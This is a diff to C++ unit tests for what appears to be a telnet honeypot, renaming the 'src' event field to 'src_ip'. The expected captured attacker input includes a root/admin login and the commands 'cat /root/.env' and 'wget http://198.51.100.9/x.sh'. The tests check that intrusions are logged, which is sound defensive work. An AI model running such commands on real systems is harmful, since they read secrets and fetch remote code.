@@ -45,13 +45,13 @@ TEST(TelnetDialogue, LogsInWithThePersonaPasswordAndCapturesIt) {
     const auto events = d.events();
     EXPECT_EQ(event_types(events),
               (std::vector<std::string>{"connect", "auth", "command", "disconnect"}));
-    EXPECT_EQ(field(events[0], "src"), "203.0.113.7");
+    EXPECT_EQ(field(events[0], "src_ip"), "203.0.113.7");
     EXPECT_EQ(field(events[0], "src_port"), "40000");
     const auto& auth = events[1];
     EXPECT_EQ(field(auth, "username"), "root");
     EXPECT_EQ(field(auth, "password"), "admin");
     EXPECT_EQ(field(auth, "status"), "success");
-    EXPECT_EQ(field(auth, "src"), "203.0.113.7");
+    EXPECT_EQ(field(auth, "src_ip"), "203.0.113.7");
     EXPECT_EQ(auth.severity, Severity::warning);
     EXPECT_EQ(field(events[2], "cmd"), "exit");
     EXPECT_EQ(field(events[3], "src_port"), "40000");
@@ -212,7 +212,7 @@ TEST(TelnetDialogue, ShellCommandsAreCaptured) {
     for (const auto& e : d.events())
         if (e.event_type == "command") {
             commands.push_back(field(e, "cmd"));
-            EXPECT_EQ(field(e, "src"), "203.0.113.7");
+            EXPECT_EQ(field(e, "src_ip"), "203.0.113.7");
         }
     EXPECT_EQ(commands, (std::vector<std::string>{"uname -a", "cat /root/.env",
                                                   "wget http://198.51.100.9/x.sh", "logout"}));
